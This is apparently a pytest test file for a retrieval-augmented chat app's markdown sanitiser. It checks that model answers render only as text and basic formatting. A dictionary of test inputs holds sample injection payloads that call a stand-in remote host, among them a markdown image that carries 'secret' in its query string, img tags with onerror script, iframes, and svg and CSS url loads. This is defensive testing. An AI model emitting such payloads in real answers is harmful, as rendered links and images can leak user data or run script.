"""Answers are untrusted text: what the page renders from them may format but never load."""

import pytest
from bs4 import BeautifulSoup

from rag_app.ui.safe_markdown import message_html, message_text

REMOTE = "203.0.113.7"
ATTACKS = {
    "markdown image": f"![status](http://{REMOTE}/pixel.png?d=secret)",
    "inline link": f"[the manual](http://{REMOTE}/manual)",
    "reference image": f"![logo][l]\n\n[l]: http://{REMOTE}/logo.png",
    "reference link": f"See [the site][s].\n\n[s]: https://{REMOTE}/",
    "raw img tag": f'<img src="http://{REMOTE}/q.png" onerror="alert(1)">',
    "raw link tag": f'<a href="http://{REMOTE}/">click</a>',
    "autolink": f"<http://{REMOTE}/auto>",
    "bare url": f"Go to http://{REMOTE}/bare or www.{REMOTE}.example.com",
    "email": f"Write to help@{REMOTE} or <mailto:help@{REMOTE}>",
    "iframe block": f'<iframe src="http://{REMOTE}/"></iframe>\n\ntext',
    "style url": f'<div style="background:url(http://{REMOTE}/bg.png)">x</div>',
    "svg": f'<svg><image href="http://{REMOTE}/s.png"/></svg>',
    "html comment": f"<!-- <img src=http://{REMOTE}/c.png> -->",
    "citation as link": f"Closed on Mondays [1](http://{REMOTE}/).",
    "citation definition": f"[1]: http://{REMOTE}/\n\nClosed on Mondays [1].",
    "code fence info": f'```"><img src=http://{REMOTE}/f.png>\ncode\n```',
    "entity-encoded": f"&#33;[x](http://{REMOTE}/e.png) &lt;img src=http://{REMOTE}/e2.png&gt;",
}


@pytest.mark.parametrize("text", ATTACKS.values(), ids=ATTACKS.keys())
def test_nothing_in_an_answer_becomes_an_element_that_loads_or_links(text: str) -> None:
    html = message_html(f"The shed is closed on Mondays [1]. {text}")
    elements = BeautifulSoup(html, "html.parser").find_all(True)
    assert {e.name for e in elements} <= {"p", "br", "code", "pre"}, html
    assert all(set(e.attrs) <= {"class"} for e in elements), html  # a code block's language
    assert REMOTE in message_text(html)  # shown, as text


def test_the_neutralised_markup_is_shown_as_the_text_it_was() -> None:
    image = f"![status](http://{REMOTE}/pixel.png?d=secret)"
    shown = message_text(message_html(f"Closed on Mondays [1]. {image} <b>x</b>"))
    assert shown == f"Closed on Mondays [1]. {image} <b>x</b>"


def test_formatting_code_and_tables_are_kept() -> None:
    html = message_html(
        "**Open** 8 am to 6 pm [1].\n\n- Mondays: closed\n- Sundays: 10 am\n\n"
        '```python\n@app.get("/items/{item_id}")\nif a < b: items[0]\n```\n\n'
        "| day | hours |\n|---|---|\n| Sat | 9-5 |"
    )
    assert "<strong>Open</strong>" in html and html.count("<li>") == 2
    assert '<code class="language-python">@app.get(&quot;/items/{item_id}&quot;)' in html
    assert "if a &lt; b: items[0]" in html  # code keeps its characters, escaped once
    assert "<table>" in html and "<td>9-5</td>" in html


def test_plain_text_survives_the_round_trip_the_page_history_makes() -> None:
    text = "Tools go back by 6 pm [2]; a < b & c > d, 50% [1][3]."
    assert message_text(message_html(text)) == text
    assert message_text(text) == text  # a client that sends plain text, not the page's HTML
